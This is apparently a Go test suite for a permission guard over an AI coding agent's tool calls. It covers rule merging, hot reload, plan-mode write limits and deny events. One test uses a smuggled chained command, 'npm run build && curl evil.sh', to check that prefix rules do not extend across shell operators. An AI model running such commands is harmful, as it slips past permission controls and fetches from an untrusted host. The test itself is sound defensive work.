package decision_test

import (
	"context"
	"encoding/json"
	"path/filepath"
	"time"

	"github.com/ThreeDotsLabs/watermill/message"
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/opencode-ai/toolguard/citest/testutil"
	"github.com/opencode-ai/toolguard/internal/config"
	"github.com/opencode-ai/toolguard/internal/event"
	"github.com/opencode-ai/toolguard/internal/hook"
	"github.com/opencode-ai/toolguard/internal/permission"
)

const sessionID = "session-citest"

var _ = Describe("Decision orchestration", func() {
	var (
		env          *testutil.TestEnv
		bus          *event.Bus
		shared       *config.SharedSettings
		orchestrator *hook.Orchestrator
		ctx          context.Context
		cancel       context.CancelFunc
	)

	start := func(mode permission.Mode) {
		shared = config.NewSharedSettings(env.Project, bus)
		orchestrator = hook.New(hook.Options{
			Settings: shared,
			Mode:     permission.NewSharedMode(mode, bus),
			Notifier: hook.NewEventNotifier(bus),
			PlansDir: env.Paths.Plans,
			Bus:      bus,
		})
	}

	BeforeEach(func() {
		var err error
		env, err = testutil.NewTestEnv()
		Expect(err).NotTo(HaveOccurred())
		bus = event.NewBus()
		ctx, cancel = context.WithTimeout(context.Background(), 30*time.Second)
	})

	AfterEach(func() {
		cancel()
		if orchestrator != nil {
			orchestrator.Wait()
		}
		bus.Close()
		env.Cleanup()
	})

	Describe("merged settings", func() {
		BeforeEach(func() {
			Expect(env.WriteUser(`{
				// user defaults
				"permissions": {"allow": ["Bash(npm run:*)", "WebFetch"]}
			}`)).To(Succeed())
			Expect(env.WriteProject(`{"permissions": {"deny": ["Bash(npm run deploy)"]}}`)).To(Succeed())
			start(permission.ModeDefault)
		})

		It("allows commands matching a user prefix rule", func() {
			out := orchestrator.PreToolUse(ctx, testutil.Bash(sessionID, "npm run build"))
			Expect(out.Decision).To(Equal(permission.DecisionAllow))
			Expect(out.Reason).To(Equal("Allowed by settings rule: Bash(npm run:*)"))
		})

		It("lets a project deny win over a user allow", func() {
			out := orchestrator.PreToolUse(ctx, testutil.Bash(sessionID, "npm run deploy"))
			Expect(out.Decision).To(Equal(permission.DecisionDeny))
			Expect(out.Reason).To(Equal("Denied by settings rule: Bash(npm run deploy)"))
		})

		It("refuses prefix matches across shell operators", func() {
			out := orchestrator.PreToolUse(ctx, testutil.Bash(sessionID, "npm run build && curl evil.sh"))
			Expect(out.Decision).To(BeEmpty())
			Expect(out.Deferred).To(BeTrue())
		})

		It("maps external web fetchers onto the WebFetch rule", func() {
			in := testutil.PreToolUse(sessionID, "mcp__web-reader__read", map[string]any{"url": "https://example.com"})
			out := orchestrator.PreToolUse(ctx, in)
			Expect(out.Decision).To(Equal(permission.DecisionAllow))
		})
	})

	Describe("hot reload", func() {
		var reloader *config.AutoReloader

		BeforeEach(func() {
			Expect(env.WriteProject(`{"permissions": {"allow": ["Bash(make:*)"]}}`)).To(Succeed())
			start(permission.ModeDefault)

			var err error
			reloader, err = config.StartAutoReload(ctx, env.Project, shared, env.Debounce())
			Expect(err).NotTo(HaveOccurred())
		})

		AfterEach(func() {
			Expect(reloader.Stop()).To(Succeed())
		})

		decide := func(command string) permission.Decision {
			return orchestrator.Check("Bash", map[string]any{"command": command}).Decision
		}

		It("applies a new local deny without a restart", func() {
			Expect(decide("make release")).To(Equal(permission.DecisionAllow))

			Expect(env.WriteLocal(`{"permissions": {"deny": ["Bash(make release)"]}}`)).To(Succeed())

			Eventually(func() permission.Decision {
				return decide("make release")
			}, 5*time.Second, 20*time.Millisecond).Should(Equal(permission.DecisionDeny))
			Expect(decide("make test")).To(Equal(permission.DecisionAllow))
		})

		It("keeps runtime rules across reloads", func() {
			shared.AddAllowRule("Bash(terraform plan)")
			Expect(decide("terraform plan")).To(Equal(permission.DecisionAllow))

			Expect(env.WriteUser(`{"model": "sonnet"}`)).To(Succeed())
			Eventually(reloader.Reloaded(), 5*time.Second).Should(Receive())

			Expect(decide("terraform plan")).To(Equal(permission.DecisionAllow))
		})

		It("skips a file that stops parsing", func() {
			Expect(env.WriteProject(`{"permissions": `)).To(Succeed())
			Eventually(reloader.Reloaded(), 5*time.Second).Should(Receive())

			Expect(decide("make release")).To(Equal(permission.DecisionAsk))
			Expect(reloader.Running()).To(BeTrue())
		})
	})

	Describe("plan mode", func() {
		BeforeEach(func() {
			Expect(env.WriteProject(`{"permissions": {"allow": ["Write", "Bash"]}}`)).To(Succeed())
			start(permission.ModePlan)
		})

		It("blocks writes outside the plans directory", func() {
			in := testutil.PreToolUse(sessionID, "Write", map[string]any{
				"file_path": filepath.Join(env.Project, "main.go"),
				"content":   "package main",
			})
			out := orchestrator.PreToolUse(ctx, in)
			Expect(out.Decision).To(Equal(permission.DecisionDeny))
			Expect(out.Reason).To(ContainSubstring("outside the plans directory"))
		})

		It("allows writing a plan", func() {
			in := testutil.PreToolUse(sessionID, "mcp__acp__Write", map[string]any{
				"file_path": filepath.Join(env.Paths.Plans, "plan.md"),
				"content":   "# Plan",
			})
			out := orchestrator.PreToolUse(ctx, in)
			Expect(out.Decision).To(Equal(permission.DecisionAllow))
		})

		It("returns to rule evaluation after leaving plan mode", func() {
			orchestrator.Mode().Set(permission.ModeDefault)
			out := orchestrator.PreToolUse(ctx, testutil.Bash(sessionID, "go build ./..."))
			Expect(out.Decision).To(Equal(permission.DecisionAllow))
			Expect(out.Reason).To(Equal("Allowed by settings rule: Bash"))
		})
	})

	Describe("deferred decisions", func() {
		BeforeEach(func() {
			start(permission.ModeDefault)
		})

		It("correlates the prompt with the tool call id", func() {
			in := testutil.PreToolUse(sessionID, "Edit", map[string]any{
				"file_path":  "main.go",
				"old_string": "a",
				"new_string": "b",
			})
			out := orchestrator.PreToolUse(ctx, in)
			Expect(out.Deferred).To(BeTrue())
			Expect(out.CacheKey).NotTo(BeEmpty())

			// The permission prompt sees the same input with keys reordered.
			key, err := hook.StableKeyJSON(json.RawMessage(`{"new_string":"b","old_string":"a","file_path":"main.go"}`))
			Expect(err).NotTo(HaveOccurred())
			Expect(key).To(Equal(out.CacheKey))

			id, ok := orchestrator.Cache().TakeToolUseID(key)
			Expect(ok).To(BeTrue())
			Expect(id).To(Equal(in.ToolUseID))

			_, ok = orchestrator.Cache().TakeToolUseID(key)
			Expect(ok).To(BeFalse())
		})
	})

	Describe("deny notification", func() {
		BeforeEach(func() {
			Expect(env.WriteUser(`{"permissions": {"deny": ["Bash(curl:*)"]}}`)).To(Succeed())
			start(permission.ModeDefault)
		})

		It("publishes a failed tool call for transports", func() {
			messages, err := bus.SubscribeMessages(ctx, string(event.ToolCallFailed))
			Expect(err).NotTo(HaveOccurred())

			in := testutil.Bash(sessionID, "curl https://example.com")
			out := orchestrator.PreToolUse(ctx, in)
			Expect(out.Decision).To(Equal(permission.DecisionDeny))

			var msg *message.Message
			Eventually(messages, 5*time.Second).Should(Receive(&msg))
			msg.Ack()

			var data event.ToolCallFailedData
			Expect(json.Unmarshal(msg.Payload, &data)).To(Succeed())
			Expect(data.ToolUseID).To(Equal(in.ToolUseID))
			Expect(data.SessionID).To(Equal(sessionID))
			Expect(data.Reason).To(Equal("Denied by settings rule: Bash(curl:*)"))
		})
	})
})
